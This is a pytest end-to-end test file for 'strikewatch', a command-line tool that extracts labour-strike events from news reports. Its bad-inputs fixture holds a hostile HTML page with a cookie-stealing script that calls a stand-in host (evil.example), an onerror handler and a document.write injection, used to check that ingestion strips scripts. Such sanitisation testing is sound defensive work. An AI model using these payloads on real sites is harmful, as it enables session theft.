"""End to end through the command line, on a temporary SQLite database.

The commands run in-process with Typer's CliRunner; `strikewatch.pipeline.Extractor` is swapped
for the session's extractor so that spaCy is loaded once for the whole suite. One test (the demo)
runs the installed `strikewatch` script in a subprocess, model load included.
"""
from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import time
from datetime import date
from importlib import resources
from pathlib import Path

import pytest
from typer.testing import CliRunner

from strikewatch import cli
from strikewatch.types import COUNT_FIELDS

REPO = Path(__file__).resolve().parents[1]
REPORTS = REPO / "tests" / "data" / "reports"
SUMMARY = re.compile(r"^read (\d+) documents: (\d+) stored, (\d+) unchanged, (\d+) failed; "
                     r"(\d+) event mentions$")
FAILURE_LINE = re.compile(r"^\S.*: \[SW\d{3}\] .+ \(.+\)$")

runner = CliRunner()


def run(*args: object, code: int = 0):
    result = runner.invoke(cli.app, [str(a) for a in args], catch_exceptions=False)
    assert result.exit_code == code, (args, result.exit_code, result.stdout, result.stderr)
    return result


def summary(stderr: str) -> tuple[int, int, int, int, int]:
    found = [m for m in map(SUMMARY.match, stderr.splitlines()) if m]
    assert len(found) == 1, stderr
    return tuple(int(g) for g in found[0].groups())  # type: ignore[return-value]


def report_texts(folder: Path) -> dict[str, str]:
    """Document id -> text as read, for every .txt report with its sidecar."""
    texts = {}
    for txt in sorted(folder.glob("*.txt")):
        meta = txt.with_name(txt.stem + ".meta.json")
        doc_id = json.loads(meta.read_text(encoding="utf-8"))["id"] if meta.exists() else txt.stem
        texts[doc_id] = txt.read_text(encoding="utf-8")
    return texts


def check_event(rec: dict, texts: dict[str, str]) -> None:
    """The FORMAT fields, and every span is the text it claims to be."""
    for key in ("id", "type", "workplace", "actors", "location", "date", *COUNT_FIELDS,
                "demands", "sources", "independent_sources"):
        assert key in rec, key
    assert {"start", "end", "precision", "text"} <= set(rec["date"])
    if rec["date"]["start"]:
        date.fromisoformat(rec["date"]["start"])
    assert rec["sources"], rec["id"]
    for src in rec["sources"]:
        text = texts[src["document"]]
        assert src["evidence"]
        for ev in src["evidence"]:
            assert text[ev["start"]:ev["end"]] == ev["text"], (rec["id"], ev)
    for field in COUNT_FIELDS:
        if rec[field] is None:
            continue
        assert rec[field]["low"] <= rec[field]["high"]
        for c in rec[field]["claims"]:
            assert {"low", "high", "text", "attributed_to", "document", "start", "end"} <= set(c)
            assert texts[c["document"]][c["start"]:c["end"]] == c["text"], (rec["id"], c)


@pytest.fixture(scope="module")
def shared_extractor(extractor):
    with pytest.MonkeyPatch.context() as mp:
        mp.setattr("strikewatch.pipeline.Extractor", lambda *a, **k: extractor)
        yield extractor


@pytest.fixture
def wide(monkeypatch):
    """A wide terminal for the tables, whatever the terminal running the tests."""
    monkeypatch.setattr(cli.out, "_width", 240)
    monkeypatch.setattr(cli.err, "_width", 240)


@pytest.fixture(scope="module")
def reports_db(tmp_path_factory, shared_extractor):
    """The evaluation reports ingested once, and the first export of their events."""
    folder = tmp_path_factory.mktemp("cli")
    db = f"sqlite:///{folder / 'sw.db'}"
    result = run("ingest", REPORTS, "--db", db)
    first = folder / "first.jsonl"
    run("export", "events", "--format", "jsonl", "--output", first, "--db", db)
    return db, result, first


def test_ingest_reports(reports_db):
    _db, result, first = reports_db
    read, stored, unchanged, failed, mentions = summary(result.stderr)
    n = len(list(REPORTS.glob("*.txt")))
    assert (read, stored, unchanged, failed) == (n, n, 0, 0)
    assert mentions > 0
    assert len(result.stderr.strip().splitlines()) == 1  # nothing but the summary
    assert result.stdout == ""
    events = first.read_text(encoding="utf-8").splitlines()
    assert len(events) > 0


def test_reingest_changes_nothing(reports_db, tmp_path):
    db, _result, first = reports_db
    again = run("ingest", REPORTS, "--db", db)
    n = len(list(REPORTS.glob("*.txt")))
    assert summary(again.stderr) == (n, 0, n, 0, 0)
    second = tmp_path / "second.jsonl"
    run("export", "events", "--format", "jsonl", "--output", second, "--db", db)
    assert second.read_bytes() == first.read_bytes()


def test_export_formats_write_files_with_true_spans(reports_db, tmp_path):
    db, _result, first = reports_db
    texts = report_texts(REPORTS)
    recs = [json.loads(line) for line in first.read_text(encoding="utf-8").splitlines()]
    assert len({r["id"] for r in recs}) == len(recs)
    for rec in recs:
        check_event(rec, texts)
    assert {s["document"] for r in recs for s in r["sources"]} <= set(texts)

    out_csv, out_geo = tmp_path / "events.csv", tmp_path / "out" / "events.geojson"
    result = run("export", "events", "--format", "csv", "--output", out_csv, "--db", db)
    assert result.stderr.strip() == f"wrote {len(recs)} events to {out_csv}"
    rows = list(csv.DictReader(io.StringIO(out_csv.read_text(encoding="utf-8"), newline="")))
    assert [r["id"] for r in rows] == [r["id"] for r in recs]

    run("export", "events", "-f", "geojson", "-o", out_geo, "--db", db)
    gj = json.loads(out_geo.read_text(encoding="utf-8"))
    assert gj["type"] == "FeatureCollection"
    located = [r["id"] for r in recs if r["location"] and r["location"]["lat"] is not None]
    assert [f["id"] for f in gj["features"]] == located and located

    ents_path = tmp_path / "entities.jsonl"
    run("export", "entities", "--output", ents_path, "--db", db)
    ents = [json.loads(line) for line in ents_path.read_text(encoding="utf-8").splitlines()]
    assert ents and all({"id", "type", "name", "aliases", "documents"} <= set(e) for e in ents)
    ent_ids = {e["id"] for e in ents}
    assert {r["workplace"]["entity"] for r in recs if r["workplace"]} <= ent_ids | {None}


def test_export_with_a_bad_format_is_one_error_line(reports_db, tmp_path):
    db, _result, _first = reports_db
    result = run("export", "events", "--format", "xlsx", "--output", tmp_path / "x.xlsx",
                 "--db", db, code=2)
    assert len(result.stderr.strip().splitlines()) == 1
    assert "unknown export format 'xlsx'" in result.stderr
    assert not (tmp_path / "x.xlsx").exists()


def test_events_list_and_show(reports_db, wide):
    db, _result, first = reports_db
    recs = [json.loads(line) for line in first.read_text(encoding="utf-8").splitlines()]
    listed = run("events", "list", "--db", db).stdout
    assert f"{len(recs)} events" in listed
    for rec in recs:
        assert rec["id"][:12] in listed
    rec = next(r for r in recs if r["participants"] and r["location"])
    shown = run("events", "show", rec["id"][:10], "--db", db).stdout
    assert shown.splitlines()[0] == f"{rec['id']} {rec['type']}"
    assert rec["location"]["name"] in shown
    assert re.search(r"^  participants\s+\S", shown, re.M)
    for src in rec["sources"]:
        for ev in src["evidence"]:
            assert f"[{src['document']} {ev['start']}:{ev['end']}]" in shown


# --- bad inputs -----------------------------------------------------------------------------------

STORY = ("Workers at BelAZ in Zhodino went on strike on 17 August 2020. About 800 workers joined "
         "the strike, the organisers said, and demanded new elections.\n")
HOSTILE = """<!DOCTYPE html>
<html lang="en"><head><title>Strike at MAZ</title>
<script>document.write("PWNED-HEAD")</script></head>
<body><article>
<h1>Strike at MAZ</h1>
<p>Workers at MAZ in Minsk went on strike on 18 August 2020, holding up a placard that read
&lt;script&gt;alert(1)&lt;/script&gt; at the factory gate.</p>
<script>fetch("https://evil.example/?c=" + document.cookie); // PWNED-BODY</script>
<p>About 500 workers joined the strike, according to the organisers, who demanded new
elections and the release of detained protesters.</p>
<img src="x" onerror="alert('PWNED-IMG')">
</article></body></html>
"""
LITERAL = "<script>alert(1)</script>"


def bad_folder(folder: Path) -> dict[str, str]:
    """A folder of bad inputs and three good documents; returns bad file -> expected code."""
    folder.mkdir()
    (folder / "empty.txt").write_bytes(b"")
    (folder / "nul.txt").write_bytes(b"Workers at BelAZ\x00\x01\x02 went on strike.\n")
    (folder / "latin1.txt").write_bytes("Workers at the Zhodino café went on strike.\n"
                                        .encode("latin-1"))
    with (folder / "huge.txt").open("wb") as fh:  # 25 MB, sparse: fast to write
        fh.write(STORY.encode())
        fh.seek(25 * 1024 * 1024 - 1)
        fh.write(b"\n")
    (folder / "scripts.html").write_text(
        "<html><head><script>var a = 1;</script><style>p {}</style></head><body>"
        "<script>alert('x')</script><noscript>Please enable JavaScript</noscript>"
        "</body></html>", encoding="utf-8")
    (folder / "mixed.jsonl").write_text(
        '{"id": "broken", "text": "Workers struck\n'
        + json.dumps({"id": "jsonl-good", "text": STORY.replace("BelAZ", "MTZ")}) + "\n",
        encoding="utf-8")
    (folder / "sidecar.txt").write_text(STORY, encoding="utf-8")
    (folder / "sidecar.meta.json").write_text("{id: 'sidecar', published: 2020-08-17",
                                              encoding="utf-8")
    (folder / "good.txt").write_text(STORY, encoding="utf-8")
    (folder / "hostile.html").write_text(HOSTILE, encoding="utf-8")
    return {"empty.txt": "SW107", "nul.txt": "SW105", "latin1.txt": "SW106",
            "huge.txt": "SW104", "scripts.html": "SW111", "mixed.jsonl:1": "SW108",
            "sidecar.meta.json": "SW108"}


def test_ingest_bad_inputs_one_line_each_and_good_ones_stored(tmp_path, shared_extractor):
    folder = tmp_path / "inbox"
    bad = bad_folder(folder)
    assert (folder / "huge.txt").stat().st_size == 25 * 1024 * 1024
    db = f"sqlite:///{tmp_path / 'sw.db'}"
    result = run("ingest", folder, "--db", db, code=1)

    lines = result.stderr.strip().splitlines()
    read, stored, unchanged, failed, _mentions = summary(result.stderr)
    failures = [line for line in lines if not SUMMARY.match(line)]
    assert len(failures) == len(bad) == failed, result.stderr
    for line in failures:
        assert FAILURE_LINE.match(line), line
    for name, code in bad.items():
        naming = [line for line in failures if f"{os.sep}{name}: " in line]
        assert len(naming) == 1, (name, result.stderr)
        assert f"[{code}]" in naming[0], naming[0]
    for good in ("good.txt", "hostile.html", "mixed.jsonl:2"):
        assert good not in result.stderr
    assert (read, stored, unchanged) == (3, 3, 0)

    out = tmp_path / "events.jsonl"
    run("export", "events", "--output", out, "--db", db)
    raw = out.read_text(encoding="utf-8")
    recs = [json.loads(line) for line in raw.splitlines()]
    documents = {s["document"] for r in recs for s in r["sources"]}
    assert documents == {"good", "jsonl-good", "hostile"}

    # the hostile page: its visible text is stored and exported as text, its scripts are not
    from strikewatch.store.repository import Store
    store = Store.open(db)
    try:
        docs = {d.id: d for d in store.documents()}
    finally:
        store.close()
    assert set(docs) == {"good", "jsonl-good", "hostile"}
    hostile = docs["hostile"].text
    assert LITERAL in hostile and "PWNED" not in hostile and "onerror" not in hostile
    evidence = [ev["text"] for r in recs for s in r["sources"] if s["document"] == "hostile"
                for ev in s["evidence"]]
    assert any(LITERAL in e for e in evidence), evidence
    assert LITERAL in raw  # written as the literal characters, not escaped or dropped
    assert "PWNED" not in raw
    for rec in recs:
        for src in rec["sources"]:
            for ev in src["evidence"]:
                assert docs[src["document"]].text[ev["start"]:ev["end"]] == ev["text"]


def test_ingest_a_tree_with_the_same_file_names_in_subfolders(tmp_path, shared_extractor):
    """Files in subfolders are named by their path under the named folder: no duplicate ids."""
    root = tmp_path / "news"
    for n, folder in enumerate(("business", "sport", "sport/archive")):
        (root / folder).mkdir(parents=True)
        (root / folder / "001.txt").write_text(STORY.replace("800", str(100 + n)), encoding="utf-8")
    (root / "001.txt").write_text(STORY, encoding="utf-8")
    (root / "sport" / "feed.jsonl").write_text(
        "".join(json.dumps({"text": STORY.replace("BelAZ", name)}) + "\n" for name in ("MAZ", "MTZ")),
        encoding="utf-8")
    db = f"sqlite:///{tmp_path / 'sw.db'}"
    result = run("ingest", root, "--db", db)
    assert summary(result.stderr)[:4] == (6, 6, 0, 0)
    assert "SW112" not in result.stderr and len(result.stderr.strip().splitlines()) == 1

    from strikewatch.store.repository import Store
    store = Store.open(db)
    try:
        stored = sorted(d.id for d in store.documents())
    finally:
        store.close()
    assert stored == ["001", "business/001", "sport/001", "sport/archive/001", "sport/feed-1", "sport/feed-2"]
    assert summary(run("ingest", root, "--db", db).stderr)[:4] == (6, 0, 6, 0)  # same ids again


# --- the demo -------------------------------------------------------------------------------------


def _samples() -> list[str]:
    folder = resources.files("strikewatch") / "samples"
    if not folder.is_dir():
        return []
    return sorted(p.name for p in folder.iterdir()
                  if p.name.endswith((".txt", ".html", ".htm", ".jsonl"))
                  or p.name.endswith(".json") and not p.name.endswith(".meta.json"))


def test_demo_runs_the_installed_command(tmp_path):
    samples = _samples()
    if not samples:
        pytest.skip("src/strikewatch/samples/ is missing or empty (the lead is adding it)")
    script = Path(sys.executable).with_name("strikewatch")
    cmd = [str(script)] if script.exists() else [sys.executable, "-m", "strikewatch.cli"]
    db = f"sqlite:///{tmp_path / 'demo.db'}"
    env = {k: v for k, v in os.environ.items() if k != "STRIKEWATCH_DB"}
    env["COLUMNS"] = "200"
    proc = subprocess.run([*cmd, "demo", "--db", db, "--no-serve"], capture_output=True,
                          text=True, timeout=600, env=env, cwd=tmp_path)
    assert proc.returncode == 0, (proc.stdout, proc.stderr)
    read, stored, unchanged, failed, mentions = summary(proc.stderr)
    assert (read, stored, unchanged, failed) == (len(samples), len(samples), 0, 0)
    m = re.search(r"(\d+) events from the sample reports", proc.stdout)
    assert m and int(m.group(1)) > 0, proc.stdout
    assert (tmp_path / "demo.db").exists() and not (tmp_path / "strikewatch.db").exists()

    # the README's first command: the demo ends with the server running on the demo data
    port = free_port()
    server = subprocess.Popen([*cmd, "demo", "--db", db, "--port", str(port)], env=env,
                              cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              text=True)
    try:
        line = ""
        deadline = time.monotonic() + 300
        while "serving on" not in line and time.monotonic() < deadline:
            line = server.stdout.readline()
            assert line or server.poll() is None, server.stderr.read()
        assert f"http://127.0.0.1:{port}/" in line, line
        body = wait_json(f"http://127.0.0.1:{port}/api/events?limit=5")
        assert len(body["items"]) > 0  # demo data are public (all events)
    finally:
        server.terminate()
        server.wait(timeout=30)


def free_port() -> int:
    import socket
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return sock.getsockname()[1]


def wait_json(url: str, timeout: float = 60.0) -> dict:
    import json as _json
    import urllib.request
    deadline = time.monotonic() + timeout
    while True:
        try:
            with urllib.request.urlopen(url, timeout=10) as r:
                return _json.loads(r.read())
        except OSError:
            if time.monotonic() > deadline:
                raise
            time.sleep(0.2)


def test_evaluate_grades_the_store_against_gold_files_or_a_folder(reports_db):
    db, _result, _first = reports_db
    gold = REPO / "tests" / "data" / "gold"
    files = sorted(str(p) for p in gold.glob("*.json"))
    by_files = run("evaluate", *files, "--docs", REPORTS, "--db", db).stdout
    by_folder = run("evaluate", gold, "--docs", REPORTS, "--db", db).stdout
    assert by_files == by_folder
    last = by_files.strip().splitlines()[-1]
    assert last.startswith("recall=") and "entity_groups=" in last
    recall = float(last.split()[0].split("=")[1])
    assert recall >= 0.9
